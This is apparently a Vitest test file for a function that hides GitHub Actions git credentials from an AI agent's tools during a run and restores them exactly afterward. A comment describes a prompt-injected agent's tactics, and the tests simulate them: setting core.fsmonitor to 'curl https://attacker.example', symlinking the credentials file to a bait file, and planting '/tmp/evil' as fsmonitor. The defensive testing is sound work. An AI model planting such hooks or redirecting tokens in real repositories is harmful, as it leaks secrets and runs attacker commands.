import { execFileSync } from 'node:child_process';
import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { hideGitCredentials } from '../../src/github-side/git/credentials.js';

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', args, { cwd, encoding: 'utf8', stdio: 'pipe' }).trim();

function checkout(): { repo: string; credentialsFile: string } {
  const repo = mkdtempSync(join(tmpdir(), 'cred-repo-'));
  git(repo, 'init', '-q');
  git(
    repo,
    'config',
    '--local',
    'http.https://github.com/.extraheader',
    'AUTHORIZATION: basic c2VjcmV0',
  );
  const credentialsFile = join(
    mkdtempSync(join(tmpdir(), 'runner-temp-')),
    'git-credentials.config',
  );
  writeFileSync(
    credentialsFile,
    '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic dG9rZW4=\n',
    {
      mode: 0o600,
    },
  );
  git(repo, 'config', '--local', `includeIf.gitdir:${repo}/.git.path`, credentialsFile);
  return { repo, credentialsFile };
}

describe('hideGitCredentials', () => {
  it('takes the persisted credentials out of reach and puts them back', async () => {
    const { repo, credentialsFile } = checkout();
    const before = git(repo, 'config', '--local', '--list');
    const fileBefore = readFileSync(credentialsFile, 'utf8');

    const hidden = await hideGitCredentials(repo);
    expect(hidden.count).toBe(2);
    const during = git(repo, 'config', '--local', '--list');
    expect(during).not.toContain('extraheader');
    expect(during.toLowerCase()).not.toContain('includeif');
    expect(readFileSync(credentialsFile, 'utf8')).toBe('');
    // git itself no longer sees a credential through the include either.
    expect(() => git(repo, 'config', '--get', 'http.https://github.com/.extraheader')).toThrow();

    await hidden.restore();
    await hidden.restore();
    expect(git(repo, 'config', '--local', '--list')).toBe(before);
    expect(readFileSync(credentialsFile, 'utf8')).toBe(fileBefore);
  });

  it('restores the config exactly as it was, discarding what was written to it meanwhile', async () => {
    const { repo, credentialsFile } = checkout();
    const configPath = join(repo, '.git', 'config');
    const configBefore = readFileSync(configPath, 'utf8');
    const fileBefore = readFileSync(credentialsFile, 'utf8');

    const hidden = await hideGitCredentials(repo);
    // What a prompt-injected agent could do while it runs: a command git would run
    // later with the token back, and links that would send the restored token elsewhere.
    git(repo, 'config', '--local', 'core.fsmonitor', 'curl https://attacker.example');
    const bait = join(repo, 'bait.txt');
    writeFileSync(bait, 'committed later\n');
    rmSync(credentialsFile);
    symlinkSync(bait, credentialsFile);
    await hidden.restore();

    expect(readFileSync(configPath, 'utf8')).toBe(configBefore);
    expect(() => git(repo, 'config', '--get', 'core.fsmonitor')).toThrow();
    expect(lstatSync(credentialsFile).isSymbolicLink()).toBe(false);
    expect(readFileSync(credentialsFile, 'utf8')).toBe(fileBefore);
    expect(readFileSync(bait, 'utf8')).toBe('committed later\n');
  });

  it('actions/checkout v6: four includeIf entries, one file, which comes back byte for byte', async () => {
    const repo = mkdtempSync(join(tmpdir(), 'cred-v6-'));
    git(repo, 'init', '-q');
    const runnerTemp = mkdtempSync(join(tmpdir(), 'runner-temp-'));
    const file = join(runnerTemp, 'git-credentials-9f8e7d6c.config');
    const content = '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic dG9rZW4=\n';
    writeFileSync(file, content, { mode: 0o600 });
    const container = '/github/runner_temp/git-credentials-9f8e7d6c.config';
    git(repo, 'config', '--local', `includeIf.gitdir:${repo}/.git.path`, file);
    git(repo, 'config', '--local', `includeIf.gitdir:${repo}/.git/worktrees/*.path`, file);
    git(repo, 'config', '--local', 'includeIf.gitdir:/github/workspace/.git.path', container);
    git(
      repo,
      'config',
      '--local',
      'includeIf.gitdir:/github/workspace/.git/worktrees/*.path',
      container,
    );
    const configBefore = readFileSync(join(repo, '.git', 'config'));

    const hidden = await hideGitCredentials(repo);
    expect(hidden.count).toBe(4);
    expect(readFileSync(file, 'utf8')).toBe('');
    await hidden.restore();

    expect(readFileSync(file, 'utf8')).toBe(content);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readFileSync(join(repo, '.git', 'config'))).toEqual(configBefore);
    rmSync(repo, { recursive: true, force: true });
    rmSync(runnerTemp, { recursive: true, force: true });
  });

  it('puts back other included config files outside the workspace, as they were', async () => {
    const repo = mkdtempSync(join(tmpdir(), 'cred-include-'));
    git(repo, 'init', '-q');
    const outside = mkdtempSync(join(tmpdir(), 'cred-include-outside-'));
    const included = join(outside, 'shared.config');
    writeFileSync(included, '[user]\n\tname = Someone\n');
    git(repo, 'config', '--local', 'include.path', included);

    const hidden = await hideGitCredentials(repo);
    expect(readFileSync(included, 'utf8')).toBe('[user]\n\tname = Someone\n');
    writeFileSync(included, '[core]\n\tfsmonitor = /tmp/evil\n');
    await hidden.restore();

    expect(readFileSync(included, 'utf8')).toBe('[user]\n\tname = Someone\n');
    rmSync(repo, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });

  it('does nothing where there is nothing to hide', async () => {
    const repo = mkdtempSync(join(tmpdir(), 'cred-plain-'));
    git(repo, 'init', '-q');
    const hidden = await hideGitCredentials(repo);
    expect(hidden.count).toBe(0);
    await hidden.restore();
  });

  it('is an error, not a silent pass, when git cannot read the checkout it is to hide them in', async () => {
    const { repo } = checkout();
    const config = join(repo, '.git', 'config');
    writeFileSync(config, `${readFileSync(config, 'utf8')}[core\n`);
    const before = readFileSync(config, 'utf8');
    await expect(hideGitCredentials(repo)).rejects.toThrow(
      /^the credentials in the checkout's git configuration could not be hidden from the agent's tools, so the run stops here: git rev-parse: fatal: bad config line \d+/,
    );
    expect(readFileSync(config, 'utf8')).toBe(before);
    rmSync(repo, { recursive: true, force: true });
  });

  it('is an error, and changes nothing, when git cannot take them out', async () => {
    const { repo, credentialsFile } = checkout();
    const config = join(repo, '.git', 'config');
    const before = readFileSync(config, 'utf8');
    const fileBefore = readFileSync(credentialsFile, 'utf8');
    // git writes the config through config.lock: a folder in its place stops it.
    mkdirSync(`${config}.lock`);
    await expect(hideGitCredentials(repo)).rejects.toThrow(
      /^the credentials in the checkout's git configuration could not be removed for the run, so the run stops here: git config: /,
    );
    expect(readFileSync(config, 'utf8')).toBe(before);
    expect(readFileSync(credentialsFile, 'utf8')).toBe(fileBefore);
    rmSync(repo, { recursive: true, force: true });
  });

  it('does nothing outside a checkout', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'cred-none-'));
    const hidden = await hideGitCredentials(folder);
    expect(hidden.count).toBe(0);
    rmSync(folder, { recursive: true, force: true });
  });
});
